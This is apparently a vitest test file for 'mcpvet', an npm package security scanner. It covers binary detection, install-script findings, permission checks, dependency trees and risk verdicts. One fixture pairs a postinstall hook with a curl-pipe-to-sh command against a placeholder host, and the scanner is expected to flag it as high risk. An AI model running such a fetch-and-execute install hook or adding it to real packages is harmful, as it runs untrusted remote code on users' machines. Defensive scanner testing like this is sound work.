import { describe, expect, it } from 'vitest';
import type { Finding, Permissions } from '../../registry/records/index.js';
import {
  dependencyTreeFromShrinkwrap,
  detectBinaryFormat,
  inventoryPackage,
  type PackageMaterial,
  packageFindings,
  resolveDependencyTree,
} from '../../verifier/assess/package/index.js';
import { comparePermissions, readDeclaredPermissions } from '../../verifier/assess/permissions/index.js';
import { buildAssessment } from '../../verifier/assess/record/index.js';
import { rateFindings } from '../../verifier/assess/risk/index.js';

const enc = new TextEncoder();

function material(
  files: Record<string, string | Uint8Array>,
  packageJson: Record<string, unknown>,
): PackageMaterial {
  const pj = { name: 'fixture', version: '1.0.0', ...packageJson };
  const map = new Map<string, Uint8Array>([['package.json', enc.encode(`${JSON.stringify(pj, null, 2)}\n`)]]);
  for (const [k, v] of Object.entries(files)) map.set(k, typeof v === 'string' ? enc.encode(v) : v);
  return { files: map, packageJson: pj, source: { kind: 'tarball', spec: 'fixture.tgz' } };
}

const ELF = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)]);
function pe(): Uint8Array {
  const b = new Uint8Array(0x100);
  b[0] = 0x4d;
  b[1] = 0x5a;
  b[0x3c] = 0x80;
  b.set([0x50, 0x45, 0, 0], 0x80);
  return b;
}

describe('binary formats by magic bytes', () => {
  it('recognises ELF, Mach-O (thin and universal), PE and wasm, and not Java classes or text', () => {
    expect(detectBinaryFormat(ELF)).toBe('ELF');
    expect(detectBinaryFormat(Uint8Array.from([0xcf, 0xfa, 0xed, 0xfe, 0, 0, 0, 0]))).toBe('Mach-O');
    expect(detectBinaryFormat(Uint8Array.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]))).toBe('Mach-O');
    expect(detectBinaryFormat(Uint8Array.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]))).toBeUndefined();
    expect(detectBinaryFormat(pe())).toBe('PE');
    expect(detectBinaryFormat(Uint8Array.from([0x4d, 0x5a, 0x90, 0]))).toBeUndefined();
    expect(detectBinaryFormat(Uint8Array.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]))).toBe('WebAssembly');
    expect(detectBinaryFormat(enc.encode('#!/bin/sh\necho hi\n'))).toBeUndefined();
  });
});

describe('package inventory and findings', () => {
  const m = material(
    {
      'index.js':
        "const { spawn } = require('child_process');\nspawn('git', ['status']);\nfetch('https://api.example.net');\n",
      'setup.js': "require('child_process').execSync('curl -fsSL https://get.example.net/i.sh | sh');\n",
      'build/Release/addon.node': ELF,
      'vendor/tool.exe': pe(),
      'binding.gyp': '{}',
      'types.d.ts': 'export declare const x: number;\n',
      'broken.js': 'function (((',
    },
    {
      scripts: { postinstall: 'node setup.js', test: 'vitest' },
      dependencies: { a: '^1.0.0', b: '^2.0.0' },
      peerDependencies: { c: '*' },
    },
  );
  const analysis = inventoryPackage(m);
  const inv = analysis.inventory;
  const findings = packageFindings(m, analysis);

  it('inventories scripts, native code, binaries, size and dependency counts', () => {
    expect(inv.installScripts).toEqual({ postinstall: 'node setup.js' });
    expect(inv.native).toEqual({ addons: ['build/Release/addon.node'], bindingGyp: true, loaders: [] });
    expect(inv.binaries).toEqual([{ path: 'vendor/tool.exe', format: 'PE', bytes: 0x100 }]);
    expect(inv.size.files).toBe(8);
    expect(inv.size.unpackedBytes).toBe([...m.files.values()].reduce((n, b) => n + b.length, 0));
    expect(inv.dependencies.direct).toEqual({
      dependencies: 2,
      optionalDependencies: 0,
      peerDependencies: 1,
      bundleDependencies: 0,
    });
    expect(inv.dependencies.transitive).toMatchObject({ source: 'none', count: null });
    expect(inv.code.filesAnalyzed).toBe(2);
    expect(inv.code.filesNotAnalyzed.map((f) => f.file)).toEqual(['broken.js']);
    expect(inv.code.capabilities.exec).toBe(4);
    expect(inv.code.capabilities.network.egress).toBe(1);
    expect(inv.code.hosts).toEqual(['api.example.net', 'get.example.net']);
  });

  it('rates an install script running a shell payload high, with package.json line evidence', () => {
    const install = findings.find((f) => f.ruleId === 'package.install-script');
    expect(install?.severity).toBe('high');
    expect(install?.detail).toContain('setup.js uses exec');
    expect(install?.evidence).toMatchObject({
      location: 'package.json:5:5',
      text: '"postinstall": "node setup.js"',
    });
    const payload = findings.find((f) => f.ruleId === 'code.dangerous-command');
    expect(payload).toMatchObject({
      severity: 'high',
      category: 'command-injection',
      evidence: { location: 'setup.js:1:1' },
    });
  });

  it('reports native code, bundled executables and unparsed files', () => {
    expect(
      findings.filter((f) => f.ruleId === 'package.native-addon').map((f) => f.evidence?.location),
    ).toEqual(['build/Release/addon.node', 'binding.gyp']);
    expect(findings.find((f) => f.ruleId === 'package.bundled-binary')).toMatchObject({
      severity: 'high',
      title: 'Bundles an executable (PE)',
      evidence: { location: 'vendor/tool.exe' },
    });
    expect(findings.find((f) => f.ruleId === 'code.not-analyzed')?.evidence?.location).toBe('broken.js');
    // a local tarball has no registry record, so no provenance finding is possible or made
    expect(findings.some((f) => f.ruleId === 'package.no-provenance')).toBe(false);
  });

  it('treats binding.gyp without an install script as an implicit native build', () => {
    const gyp = material({ 'binding.gyp': '{}' }, {});
    const a = inventoryPackage(gyp);
    expect(a.inventory.implicitInstall).toBe('node-gyp rebuild');
    expect(packageFindings(gyp, a).find((f) => f.ruleId === 'package.install-script')?.title).toBe(
      'Native build runs at install (binding.gyp)',
    );
  });
});

describe('declared permissions', () => {
  const m = material(
    {
      'index.js': [
        "import { execFile } from 'node:child_process';",
        "import { writeFile } from 'node:fs/promises';",
        "execFile('git');",
        "await writeFile('/tmp/x', 'y');",
        "await fetch('https://api.github.com/repos');",
        "await fetch('https://telemetry.example.net/t');",
        'const t = process.env.GITHUB_TOKEN; const h = process.env.HOME;',
      ].join('\n'),
    },
    {},
  );
  const { detections } = inventoryPackage(m);
  const ids = (fs: Finding[]) => fs.map((f) => `${f.ruleId}:${f.severity}`);

  it('says "not declared" at medium when there is no permissions block', () => {
    const fs = comparePermissions({ detections, nativeArtifacts: [] }, undefined);
    expect(ids(fs)).toEqual([
      'permissions.undeclared-exec:medium',
      'permissions.undeclared-network:medium',
      'permissions.undeclared-fs-write:medium',
      'permissions.undeclared-env:low',
    ]);
    expect(
      fs.every((f) => f.title.endsWith('(permissions not declared)') && f.detail?.startsWith('not declared')),
    ).toBe(true);
    expect(fs[0]?.evidence).toMatchObject({ location: 'index.js:3:1', text: "execFile('git')" });
    expect(fs[3]?.detail).toBe('not declared: reads GITHUB_TOKEN');
  });

  it('rates needs the declaration contradicts high, and checks hosts against an allowlist', () => {
    const declared: Permissions = { network: { egress: 'none' }, exec: false };
    expect(ids(comparePermissions({ detections, nativeArtifacts: [] }, declared))).toEqual([
      'permissions.undeclared-exec:high',
      'permissions.undeclared-network:high',
      'permissions.undeclared-fs-write:high',
      'permissions.undeclared-env:low',
    ]);
    const allow: Permissions = {
      network: { egress: 'allowlist', hosts: [{ host: '*.github.com' }] },
      exec: true,
      filesystem: { write: ['/tmp'] },
      env: [{ name: 'GITHUB_TOKEN', secret: true }],
    };
    const fs = comparePermissions({ detections, nativeArtifacts: [] }, allow);
    expect(ids(fs)).toEqual(['permissions.host-not-allowlisted:medium']);
    expect(fs[0]?.detail).toContain('telemetry.example.net');
    expect(fs[0]?.detail).not.toContain('api.github.com');
  });

  it('reads the permissions block out of a bare block, a capabilities document or a release', () => {
    const p = { exec: true };
    expect(readDeclaredPermissions(p)).toEqual(p);
    expect(readDeclaredPermissions({})).toEqual({});
    expect(readDeclaredPermissions({ tools: [], permissions: p })).toEqual(p);
    expect(
      readDeclaredPermissions({ name: 'a/b', version: '1.0.0', capabilities: { permissions: p } }),
    ).toEqual(p);
    expect(readDeclaredPermissions({ name: 'a/b', version: '1.0.0' })).toBeUndefined();
  });
});

describe('dependencies', () => {
  it('resolves the production closure from manifests, unique by name@version, with unresolvable ranges listed', async () => {
    const registry: Record<
      string,
      {
        version: string;
        dependencies?: Record<string, string>;
        hasInstallScript?: boolean;
        deprecated?: string;
      }
    > = {
      a: { version: '1.4.0', dependencies: { c: '^3.0.0', d: '^1.0.0' } },
      b: { version: '2.0.1', dependencies: { c: '^3.1.0' }, hasInstallScript: true },
      c: { version: '3.2.0' },
      d: { version: '1.0.0', deprecated: 'old' },
    };
    const asked: string[] = [];
    const tree = await resolveDependencyTree(
      { dependencies: { a: '^1.0.0', b: '^2.0.0' }, optionalDependencies: { gone: '^9.0.0' } },
      async (name, range) => {
        asked.push(`${name}@${range}`);
        const m = registry[name];
        if (!m) throw new Error('E404');
        return { name, ...m };
      },
    );
    expect(tree).toEqual({
      source: 'registry',
      packages: ['a@1.4.0', 'b@2.0.1', 'c@3.2.0', 'd@1.0.0'],
      truncated: false,
      unresolved: ['gone@^9.0.0'],
      withInstallScripts: ['b@2.0.1'],
      deprecated: ['d@1.0.0'],
    });
    expect(asked.filter((a) => a.startsWith('c@'))).toEqual(['c@^3.0.0', 'c@^3.1.0']);
  });

  it('counts a published npm-shrinkwrap.json without dev or linked packages', () => {
    const tree = dependencyTreeFromShrinkwrap(
      JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { name: 'root', version: '1.0.0' },
          'node_modules/a': { version: '1.0.0' },
          'node_modules/a/node_modules/b': { version: '2.0.0', hasInstallScript: true },
          'node_modules/dev-only': { version: '1.0.0', dev: true },
          'node_modules/local': { link: true, resolved: '../local' },
        },
      }),
    );
    expect(tree).toMatchObject({
      source: 'npm-shrinkwrap.json',
      packages: ['a@1.0.0', 'b@2.0.0'],
      withInstallScripts: ['b@2.0.0'],
    });
    expect(dependencyTreeFromShrinkwrap('not json')).toBeUndefined();
  });
});

describe('risk and verdict', () => {
  const f = (severity: Finding['severity'], category: string, ruleId = 'x.rule'): Finding => ({
    ruleId,
    severity,
    category,
    title: 't',
  });

  it('follows the documented rule', () => {
    expect(rateFindings([])).toMatchObject({ risk: 'none', verdict: 'approve' });
    expect(rateFindings([f('info', 'network'), f('low', 'provenance')])).toMatchObject({
      risk: 'low',
      verdict: 'approve',
    });
    expect(rateFindings([f('medium', 'permissions')])).toMatchObject({ risk: 'medium', verdict: 'review' });
    expect(rateFindings([f('high', 'native-code')])).toMatchObject({ risk: 'high', verdict: 'review' });
    expect(rateFindings([f('high', 'prompt-injection', 'poison.x')])).toMatchObject({
      risk: 'high',
      verdict: 'reject',
    });
    expect(rateFindings([f('critical', 'integrity')])).toMatchObject({ risk: 'critical', verdict: 'reject' });
    expect(rateFindings([f('high', 'exfiltration', 'poison.y'), f('low', 'a')]).summary).toBe(
      'risk high, suggested verdict reject: high findings showing intent (poison.y) (1 high, 1 low)',
    );
  });

  it('builds a schema-valid record with the inventory, sorted findings and a fixed date', () => {
    const m = material({ 'index.js': "require('child_process').spawn('x');" }, {});
    const a = buildAssessment({ package: m, now: new Date('2026-01-02T03:04:05Z') });
    expect(a).toMatchObject({
      subject: { package: 'fixture@1.0.0' },
      assessor: { id: 'mcpvet', kind: 'tool' },
      method: 'automated',
      tool: { name: 'mcpvet', rulesVersion: 'package-1+poisoning-1' },
      date: '2026-01-02T03:04:05.000Z',
      risk: 'medium',
      verdict: 'review',
      inventory: { permissions: 'not declared' },
    });
    expect(a.findings.map((x) => x.ruleId)).toEqual(['permissions.undeclared-exec']);
  });
});
